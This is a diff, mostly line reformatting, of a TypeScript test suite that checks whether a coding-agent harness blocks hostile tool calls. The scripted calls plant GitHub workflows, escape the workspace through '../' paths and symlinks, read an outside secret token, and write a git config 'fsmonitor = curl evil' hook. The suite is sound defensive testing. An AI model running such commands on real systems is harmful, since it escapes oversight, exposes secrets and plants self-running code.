@@ -20,16 +20,22 @@ const call = (name: string, input: object) => ({ name, input });
 
 const CALLS = () => ({
   writeWorkflow: call("write", { path: ".github/workflows/evil.yml", content: "on: push\n" }),
-  bashWorkflow: call("bash", { command: "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/sneaky.yml && echo planted" }),
+  bashWorkflow: call("bash", {
+    command: "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/sneaky.yml && echo planted",
+  }),
   writeUp: call("write", { path: "../escaped.txt", content: "out\n" }),
   editUp: call("edit", { path: "../outside-target.txt", oldText: "original", newText: "changed" }),
   readUp: call("read", { path: "../outside-secret.txt" }),
-  plantLinks: call("bash", { command: `ln -s ${outside.secret} link-file && ln -s ${outside.dir} link-dir && ln -s .git/config link-git && echo linked` }),
+  plantLinks: call("bash", {
+    command: `ln -s ${outside.secret} link-file && ln -s ${outside.dir} link-dir && ln -s .git/config link-git && echo linked`,
+  }),
   readLink: call("read", { path: "link-file" }),
   writeThroughLink: call("write", { path: "link-dir/planted.txt", content: "out\n" }),
   editLink: call("edit", { path: "link-file", oldText: "token", newText: "stolen" }),
   writeGitLink: call("write", { path: "link-git", content: "[core]\n\tfsmonitor = curl evil\n" }),
-  bashOut: call("bash", { command: "cat link-file; echo out > ../escaped-by-bash.txt; echo out > link-dir/planted-by-bash.txt" }),
+  bashOut: call("bash", {
+    command: "cat link-file; echo out > ../escaped-by-bash.txt; echo out > link-dir/planted-by-bash.txt",
+  }),
   // Not hostile: the file tools (the agent's process) and commands (the tool user) share files.
   writeShared: call("write", { path: "notes/shared.txt", content: "from the write tool\n" }),
   appendShared: call("bash", { command: "echo from a command >> notes/shared.txt && cat notes/shared.txt" }),
@@ -58,11 +64,15 @@ afterAll(() => world.stop());
 
 describe("protected paths", () => {
   it("refuses a workflow written by the write tool, and reverts one written by a shell command", async () => {
-    expect(results.writeWorkflow).toMatch(/Refusing to write \.github\/workflows\/evil\.yml: it is under the protected path \.github\/workflows\//);
+    expect(results.writeWorkflow).toMatch(
+      /Refusing to write \.github\/workflows\/evil\.yml: it is under the protected path \.github\/workflows\//,
+    );
     expect(results.bashWorkflow).toContain("planted");
     const everTouched = await world.repo.originGit("log", "--all", "--name-only", "--format=");
     expect(everTouched).not.toContain(".github/workflows");
-    expect(world.gh.comments(issueNumber).at(-1)!.body).toMatch(/Changes to protected paths were not committed: `\.github\/workflows\/sneaky\.yml`/);
+    expect(world.gh.comments(issueNumber).at(-1)!.body).toMatch(
+      /Changes to protected paths were not committed: `\.github\/workflows\/sneaky\.yml`/,
+    );
   });
 });
 
@@ -82,7 +92,9 @@ describe("escapes from the workspace", () => {
   it("refuses symlinks leading out of the workspace or into .git/", () => {
     expect(results.plantLinks).toContain("linked");
     expect(results.readLink).toMatch(/Path leads outside the workspace through a symlink: link-file/);
-    expect(results.writeThroughLink).toMatch(/Path leads outside the workspace through a symlink: link-dir\/planted\.txt/);
+    expect(results.writeThroughLink).toMatch(
+      /Path leads outside the workspace through a symlink: link-dir\/planted\.txt/,
+    );
     expect(results.editLink).toMatch(/Path leads outside the workspace through a symlink: link-file/);
     expect(results.writeGitLink).toMatch(/Refusing to write under \.git\/: link-git/);
   });
@@ -94,7 +106,8 @@ describe("escapes from the workspace", () => {
   });
 
   it("changed nothing outside, and leaked nothing", async () => {
-    for (const name of ["escaped.txt", "planted.txt", "escaped-by-bash.txt", "planted-by-bash.txt"]) expect(existsSync(join(outside.dir, name))).toBe(false);
+    for (const name of ["escaped.txt", "planted.txt", "escaped-by-bash.txt", "planted-by-bash.txt"])
+      expect(existsSync(join(outside.dir, name))).toBe(false);
     expect(readFileSync(outside.target, "utf8")).toBe("original\n");
     expect(readFileSync(outside.secret, "utf8")).toBe(`token=${TOKEN}\n`);
     expect(readFileSync(join(workspace, ".git", "config"), "utf8")).not.toContain("fsmonitor");
